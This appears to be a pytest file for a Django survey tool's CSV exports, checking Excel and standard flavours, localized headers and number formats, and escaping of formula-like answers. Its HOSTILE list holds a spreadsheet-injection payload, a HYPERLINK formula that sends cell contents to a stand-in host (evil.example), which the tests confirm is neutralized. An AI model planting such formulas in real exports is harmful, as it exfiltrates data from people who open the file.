"""A wave's CSV files as a Belgian reader gets them: Excel's flavour by default in French and
Dutch, the standard one a click away, headers in the reader's language with the keys below,
numbers that stay numbers, and no answer that becomes a formula."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext as _

from copkit.questionnaires.models import Answer
from copkit.questionnaires.texts import localized
from tests.survey.conftest import close, make_wave

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")', "-2+3", "ok;=2*3"]


def url(name, wave, language="fr", **query):
    with translation.override(language):
        path = reverse(f"survey:{name}", kwargs={"slug": wave.community.slug, "pk": wave.pk})
    return path + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def read(response, flavour):
    data = response.content
    if flavour == "excel":
        assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
        return list(csv.reader(io.StringIO(data[3:].decode(), newline=""), delimiter=";"))
    assert not data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=","))


@pytest.fixture
def closed_wave(world, instrument):
    wave = make_wave(world.community, responses=8, seed=5)
    close(wave)
    return wave


@pytest.mark.parametrize(("language", "query", "flavour"), [
    ("fr", {}, "excel"), ("nl", {}, "excel"), ("en", {}, "standard"),
    ("fr", {"flavour": "standard"}, "standard"), ("en", {"flavour": "excel"}, "excel")])
def test_results_csv_in_the_readers_flavour_and_language(client, world, closed_wave, language,
                                                         query, flavour):
    client.force_login(world.advisor)
    response = client.get(url("export_csv", closed_wave, language, **query))
    rows = read(response, flavour)
    with translation.override(language):
        assert rows[0][:3] == [_("Theme"), _("Key"), _("Question")]
    assert rows[1] == ["theme", "key", "question", "answers", "no_opinion", "mean", "index",
                       "answer", "count", "share_percent"]
    assert response["Content-Disposition"].endswith(
        '-excel.csv"' if flavour == "excel" else '2025.csv"')
    means = {row[5] for row in rows[2:] if row[5]}
    decimal = "," if flavour == "excel" else "."
    assert any(decimal in mean for mean in means)
    for mean in means:  # numbers, in the flavour's notation, never text
        float(mean.replace(",", ".") if flavour == "excel" else mean)
    counts = [int(row[8]) for row in rows[2:] if row[1] == "overall-satisfied"]
    assert sum(counts) == 8


def test_the_results_page_offers_both_flavours_default_first(client, world, closed_wave):
    client.force_login(world.coordinator)
    for language, first in (("fr", "excel"), ("nl", "excel"), ("en", "standard")):
        page = client.get(url("results", closed_wave, language)).content.decode()
        excel = page.index("results.csv?flavour=excel")
        standard = page.index("results.csv?flavour=standard")
        assert (excel < standard) is (first == "excel")
    page = client.get(url("results", closed_wave, "fr")).content.decode()
    assert "CSV pour Excel (séparateur ;)" in page and "CSV standard (séparateur ,)" in page


@pytest.mark.parametrize("flavour", ["excel", "standard"])
def test_row_per_response_has_question_texts_keys_and_no_formula(client, world, closed_wave,
                                                                 flavour):
    texts = Answer.objects.filter(response__collection=closed_wave.collection).exclude(text="")
    hostile = list(texts[:3])
    assert len(hostile) == 3
    for answer, value in zip(hostile, HOSTILE, strict=True):
        Answer.objects.filter(pk=answer.pk).update(text=value)
    client.force_login(world.staff)
    for language in ("fr", "nl"):
        rows = read(client.get(url("export_rows", closed_wave, language, flavour=flavour)),
                    flavour)
        question = hostile[0].question
        column = rows[1].index(question.key)
        assert rows[0][column] == localized(question.title, language)
        assert rows[0][column] != question.key
        cells = [cell for row in rows[2:] for cell in row]
        assert "'" + HOSTILE[0] in cells and "'-2+3" in cells and "ok;'=2*3" in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
